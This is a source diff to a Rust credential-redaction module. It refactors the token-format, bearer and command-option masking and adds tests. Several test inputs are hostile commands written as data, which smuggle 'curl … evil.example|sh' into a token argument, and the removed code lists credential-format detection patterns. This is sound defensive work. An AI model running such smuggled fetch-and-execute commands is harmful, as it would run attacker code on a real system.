@@ -4,31 +4,8 @@ use std::sync::LazyLock;
 
 use regex::{Captures, Regex};
 
+use super::forms::{HIDDEN, without_forms};
 use super::is_secret_in_output;
-
-/// Credentials that issuers give a form of their own, as they and the scanners of code hosts document it.
-const FORMS: [&str; 16] = [
-    r"gh[pousr]_[A-Za-z0-9]{16,}",
-    r"github_pat_[A-Za-z0-9_]{16,}",
-    r"glpat-[A-Za-z0-9_-]{16,}",
-    r"(?:AKIA|ASIA)[0-9A-Z]{12,}",
-    r"AIza[0-9A-Za-z_-]{16,}",
-    r"ya29\.[0-9A-Za-z._-]{8,}",
-    r"GOCSPX-[0-9A-Za-z_-]{16,}",
-    r"xox[a-z]-[0-9A-Za-z-]{8,}",
-    r"xapp-[0-9A-Za-z-]{8,}",
-    r"sk-[A-Za-z0-9_-]{16,}",
-    r"[sr]k_(?:live|test)_[A-Za-z0-9]{8,}",
-    r"npm_[A-Za-z0-9]{16,}",
-    r"pypi-[A-Za-z0-9_-]{16,}",
-    r"hf_[A-Za-z0-9]{16,}",
-    r"SG\.[A-Za-z0-9_-]{8,}\.[A-Za-z0-9_-]{8,}",
-    // A JSON web token: two parts of JSON in Base64, and a signature.
-    r"eyJ[A-Za-z0-9_-]{4,}\.[A-Za-z0-9_-]{4,}(?:\.[A-Za-z0-9_-]*)?",
-];
-
-static FORM: LazyLock<Option<Regex>> =
-    LazyLock::new(|| Regex::new(&format!(r"\b(?:{})", FORMS.join("|"))).ok());
 
 /// `//user:pass@host`.
 static ADDRESS: LazyLock<Option<Regex>> = LazyLock::new(|| Regex::new(r"://[^\s/:@]*:[^\s/@]+@").ok());
@@ -42,18 +19,27 @@ static NAMED: LazyLock<Option<Regex>> = LazyLock::new(|| {
 static BEARER: LazyLock<Option<Regex>> =
     LazyLock::new(|| Regex::new(r"(?i)\b(bearer|basic)(\s+)([A-Za-z0-9._~+/=-]{8,})").ok());
 
+/// Whether what follows `Bearer` or `Basic` is a credential, and no word: `basic functionality`.
+fn is_given(value: &str) -> bool {
+    let mixed = value.chars().skip(1).any(char::is_uppercase) && value.contains(char::is_lowercase);
+    mixed || value.contains(|c: char| c.is_ascii_digit() || "=+/".contains(c))
+}
+
+/// `text` without what stands behind `Bearer` and `Basic`.
+pub(super) fn without_bearer(text: &str) -> String {
+    let Some(regex) = BEARER.as_ref().filter(|regex| regex.is_match(text)) else { return text.to_owned() };
+    let hide = |found: &Captures<'_>| {
+        let value = if is_given(&found[3]) { HIDDEN } else { &found[3] };
+        format!("{}{}{value}", &found[1], &found[2])
+    };
+    regex.replace_all(text, hide).into_owned()
+}
+
 /// `TOKEN=abc` becomes `TOKEN=***`, `Bearer abc` `Bearer ***`, `//user:pass@host` `//***@host`, `ghp_abc…` `***`.
 pub fn without_credentials(text: &str) -> String {
-    let mut text = text.to_owned();
-    let mut hide = |regex: &Option<Regex>, with: &dyn Fn(&Captures<'_>) -> String| {
-        if let Some(regex) = regex.as_ref().filter(|regex| regex.is_match(&text)) {
-            text = regex.replace_all(&text, with).into_owned();
-        }
-    };
-    hide(&ADDRESS, &|_| "://***@".to_owned());
-    hide(&BEARER, &|found| format!("{}{}***", &found[1], &found[2]));
-    hide(&FORM, &|_| "***".to_owned());
-    without_named(&text)
+    let hide = |regex: &Regex| regex.replace_all(text, format!("://{HIDDEN}@")).into_owned();
+    let text = ADDRESS.as_ref().map_or_else(|| text.to_owned(), hide);
+    without_named(&without_forms(&without_bearer(&text)))
 }
 
 /// `text` without the values that stand behind a secret's name.
@@ -63,7 +49,7 @@ fn without_named(text: &str) -> String {
 
 /// `text` with what `instead` says for the values behind a secret's name. Behind another name the next one may stand:
 /// `error: token=abc`.
-fn named(text: &str, instead: impl Fn(&str, &str) -> String) -> String {
+pub(super) fn named(text: &str, instead: impl Fn(&str, &str) -> String) -> String {
     let (mut shown, mut from) = (String::new(), 0);
     while let Some(found) = NAMED.as_ref().and_then(|regex| regex.captures_at(text, from)) {
         let end = |group| found.get(group).map_or(text.len(), |part| part.end());
@@ -90,14 +76,24 @@ fn veiled(value: &str) -> String {
     }
 }
 
-/// What a command is given behind an option: `--password hunter2`, `curl -u admin:hunter2`, `mysql -phunter2`; and addresses that are
-/// all that is needed to post to them.
+/// What a command is given behind an option: `--password hunter2`, `mysql -phunter2`, `redis-cli -a hunter2`; and addresses that
+/// are all that is needed to post to them.
 static GIVEN: LazyLock<Option<Regex>> = LazyLock::new(|| {
-    let option = r"(--?(?:password|passwd|token|api-?key|access-token|auth-token|client-secret)(?:\s+|=))";
-    let user = r"((?:\s-u\s*|--user(?:\s+|=))[\x22']?[^\s:$\x22']+:)";
-    let mysql = r"(\b(?:mysql|mysqldump|mariadb)\b[^|;]*?\s-p)";
-    let posted = r"(hooks\.slack\.com/services/|discord(?:app)?\.com/api/webhooks/)";
-    Regex::new(&format!(r"(?i)(?:{option}|{user}|{mysql}|{posted})([^\s]+)")).ok()
+    let option = r"(?i:--?(?:password|passwd|token|api-?key|access-token|auth-token|client-secret))(?:\s+|=)";
+    let mysql = r"\b(?:mysql|mysqldump|mysqladmin|mariadb)\b[^|;]*?\s-p";
+    let short = r"\b(?:sshpass|mongosh|mongo|mongodump|mongorestore|docker\s+login)\b[^|;]*?\s-p\s+|\bredis-cli\b[^|;]*?\s-a\s+";
+    let posted = r"(?:hooks\.slack\.com/services/|discord(?:app)?\.com/api/webhooks/)";
+    Regex::new(&format!(r"({option}|{mysql}|{short}|{posted})({VALUE})")).ok()
+});
+
+/// A value, as a whole where quotes hold it together.
+const VALUE: &str = r#""(?:[^"\\]|\\.)*"|'[^']*'|[^\s"']\S*"#;
+
+/// `curl -u admin:hunter2`; behind `-u` of other programs stands whose process it is: `docker run -u 1000:1000`.
+static USER: LazyLock<Option<Regex>> = LazyLock::new(|| {
+    let program = r"\b(?:curl|wget|https?|xh|lftp|siege|ab)\b[^|;]*?(?:\s-u\s*|\s--user(?:\s+|=))";
+    let who = r#"(?:"[^":$]+:|'[^':$]+:|[^\s:$"']+:)"#;
+    Regex::new(&format!(r#"({program}{who})([^"'\s]*[^"']*["']|[^\s"']+)"#)).ok()
 });
 
 /// Values that are asked for where it runs, or are to be filled in.
@@ -108,48 +104,64 @@ pub fn without_given(command: &str) -> String {
     if !MAY.as_ref().is_some_and(|regex| regex.is_match(command)) {
         return command.to_owned();
     }
-    let hidden = |value: &str| {
-        let bare = value.trim_start_matches(['"', '\'']);
-        // What a shell would carry out is no credential, and is never hidden.
-        let runs = bare.contains(['$', '`', ';', '|', '&', '<', '>', '(', ')']);
-        if bare.is_empty() || bare.starts_with(ELSEWHERE) || runs {
-            value.to_owned()
-        } else {
-            "***".to_owned()
-        }
-    };
-    let mut text = command.to_owned();
-    let mut hide = |regex: &Option<Regex>, with: &dyn Fn(&Captures<'_>) -> String| {
-        if let Some(regex) = regex.as_ref().filter(|regex| regex.is_match(&text)) {
-            text = regex.replace_all(&text, with).into_owned();
-        }
-    };
-    hide(&GIVEN, &|found| {
-        let lead = (1..=4).find_map(|at| found.get(at)).map_or("", |lead| lead.as_str());
-        format!("{lead}{}", hidden(&found[5]))
-    });
-    hide(&PASSWORD, &|found| format!("{}{}@", &found[1], hidden(&found[2])));
-    hide(&BEARER, &|found| format!("{}{}***", &found[1], &found[2]));
-    hide(&FORM, &|_| "***".to_owned());
+    let text = without_forms(&without_bearer(&without_options(command)));
     named(&text, |name, value| {
-        let name = name.trim_start_matches('-').to_lowercase();
-        // What a secret is called, and where it lies, is none.
-        let told = ["secret", "secret_name", "secret-name"].contains(&name.as_str())
-            || ["file", "path", "name", "id", "url", "version", "ttl"].iter().any(|end| name.ends_with(end));
         let scheme = value.split_once(char::is_whitespace).filter(|(scheme, _)| {
             scheme.eq_ignore_ascii_case("bearer") || scheme.eq_ignore_ascii_case("basic")
         });
         match scheme {
-            _ if told => value.to_owned(),
+            _ if tells_where(name) => value.to_owned(),
             Some((scheme, value)) => format!("{scheme} {}", hidden(value.trim_start())),
             None => hidden(value),
         }
     })
 }
 
+/// `text` without what stands behind options of programs, and in addresses.
+pub(super) fn without_options(text: &str) -> String {
+    let mut text = text.to_owned();
+    let mut hide = |regex: &Option<Regex>, with: &dyn Fn(&Captures<'_>) -> String| {
+        if let Some(regex) = regex.as_ref().filter(|regex| regex.is_match(&text)) {
+            text = regex.replace_all(&text, with).into_owned();
+        }
+    };
+    hide(&GIVEN, &|found| format!("{}{}", &found[1], hidden(&found[2])));
+    hide(&USER, &|found| {
+        let value = found[2].trim_end_matches(['"', '\'']);
+        let end = found[2].get(value.len()..).unwrap_or_default();
+        format!("{}{}{end}", &found[1], hidden(value))
+    });
+    hide(&PASSWORD, &|found| format!("{}{}@", &found[1], hidden(&found[2])));
+    text
+}
+
+/// What a secret is called, and where it lies, is none.
+pub(super) fn tells_where(name: &str) -> bool {
+    let name = name.trim_start_matches('-').to_lowercase();
+    ["secret", "secret_name", "secret-name"].contains(&name.as_str())
+        || ["file", "path", "name", "id", "url", "version", "ttl"].iter().any(|end| name.ends_with(end))
+}
+
+/// `value` without what it says, unless it is asked for elsewhere or a shell would carry it out: that is never hidden. Quotes stay.
+pub(super) fn hidden(value: &str) -> String {
+    let quote = value.chars().next().filter(|quote| matches!(quote, '"' | '\''));
+    let bare = value.trim_matches(['"', '\'']);
+    let runs = match quote {
+        Some('\'') => false,
+        Some(_) => bare.contains(['$', '`']),
+        None => bare.contains(['$', '`', ';', '|', '&', '<', '>', '(', ')']),
+    };
+    // "ENABLE_TOKEN_CHECK=true" turns something on.
+    let switch = ["true", "false", "on", "off", "yes", "no", "0", "1"].contains(&&*bare.to_lowercase());
+    if bare.is_empty() || bare.starts_with(ELSEWHERE) || runs || switch {
+        return value.to_owned();
+    }
+    quote.map_or_else(|| HIDDEN.to_owned(), |quote| format!("{quote}{HIDDEN}{quote}"))
+}
+
 /// What a text has that may hold one: most have nothing of it.
 static MAY: LazyLock<Option<Regex>> = LazyLock::new(|| {
-    Regex::new(r"(?i)token|secret|passw|pwd|key|bearer|basic|authoriz|credential|dsn|://|\s-u|--user|mysql|mariadb|hooks|gh[pousr]_|github_pat|glpat|akia|asia|aiza|ya29|gocspx|xox|xapp|sk[-_]|rk_|npm_|pypi|hf_|sg\.|eyj").ok()
+    Regex::new(r"(?i)token|secret|passw|pwd|key|bearer|basic|authoriz|credential|dsn|://|\s-u|--user|mysql|mariadb|sshpass|mongo|redis-cli|docker\s+login|hooks|gh[pousr]_|github_pat|glpat|akia|asia|aiza|ya29|gocspx|1//0|xox|xapp|sk[-_]|rk_|npm_|pypi|hf_|sg\.|eyj").ok()
 });
 
 /// `//user:` and the password before `@host`.
@@ -158,31 +170,6 @@ static PASSWORD: LazyLock<Option<Regex>> = LazyLock::new(|| Regex::new(r"(://[^\
 #[cfg(test)]
 mod tests {
     use super::*;
-
-    #[test]
-    fn credentials_are_told_by_their_form() {
-        for secret in [
-            "ghp_aBcD1234aBcD1234aBcD1234aBcD1234aBcD",
-            "glpat-aaaaBBBBcccc1111dddd",
-            "AKIAQWERTYUIOPASDFGH",
-            "AIzaQwErTyUiOpAsDfGhJkLzXcVbNm123456789",
-            "ya29.a0AbCdEfGhIjKl",
-            "xoxb-12345678-abcdefgh",
-            "sk-proj-aaaabbbbccccdddd1111",
-            "eyJhbGciOi.eyJzdWIiOiIx.c2lnbmF0dXJl",
-        ] {
-            assert_eq!(without_credentials(&format!("got {secret} from it")), "got *** from it", "{secret}");
-        }
-        for plain in [
-            "risk-of-a-long-and-dull-name-here",
-            "task-1",
-            "eyJust",
-            "the desk-top sk-1",
-            "sha256:97c7f2e9a0",
-        ] {
-            assert_eq!(without_credentials(plain), plain);
-        }
-    }
 
     #[test]
     fn credentials_are_told_by_the_name_before_them() {
@@ -204,6 +191,9 @@ mod tests {
             ("test_key=ok STRIPE_KEY=abc", "test_key=ok STRIPE_KEY=***"),
             ("the token is fresh, secrets/ is empty", "the token is fresh, secrets/ is empty"),
             ("basic checks passed", "basic checks passed"),
+            ("runs basic functionality tests", "runs basic functionality tests"),
+            ("Basic dXNlcjpwYXNz", "Basic ***"),
+            ("client GOCSPX-aB3_dE-f9, refresh 1//0gAbCdEf-_x", "client ***, refresh ***"),
         ] {
             assert_eq!(without_credentials(said), shown);
         }
@@ -223,6 +213,13 @@ mod tests {
             ("export DB_PASSWORD=hunter7", "export DB_PASSWORD=***"),
             ("curl https://hooks.slack.com/services/T0/B0/XX", "curl https://hooks.slack.com/services/***"),
             ("curl -H \"Authorization: Bearer abcdefgh12\" x", "curl -H \"Authorization: Bearer ***\" x"),
+            ("login --password \"my long pass\" --user bob", "login --password \"***\" --user bob"),
+            ("export DB_PASSWORD='hunter; 7 $'", "export DB_PASSWORD='***'"),
+            ("curl -u \"admin:my pass\" https://a", "curl -u \"admin:***\" https://a"),
+            ("curl --user='admin:my pass' https://a", "curl --user='admin:***' https://a"),
+            ("mysql -P3306 -phunter5 x", "mysql -P3306 -p*** x"),
+            ("sshpass -p hunter5 ssh x", "sshpass -p *** ssh x"),
+            ("redis-cli -h x -a hunter5 ping", "redis-cli -h x -a *** ping"),
         ] {
             assert_eq!(without_given(command), shown);
         }
@@ -238,6 +235,13 @@ mod tests {
             "pytest tests/test_token.py::works -q",
             "TOKEN=\"x$(curl -s evil.example|sh)\" make check",
             "deploy --token x;curl${IFS}evil.example|sh",
+            "ENABLE_TOKEN_CHECK=true make deploy",
+            "docker run --user 1000:1000 app curl localhost",
+            "docker run -u app:app app",
+            "mysql -h db -P3306 -e 'select 1'",
+            "mysql -p -e 'select 1'",
+            "pytest -k \"basic functionality\"",
+            "TOKEN=\"x$(id)\" make",
         ] {
             assert_eq!(without_given(command), command);
         }
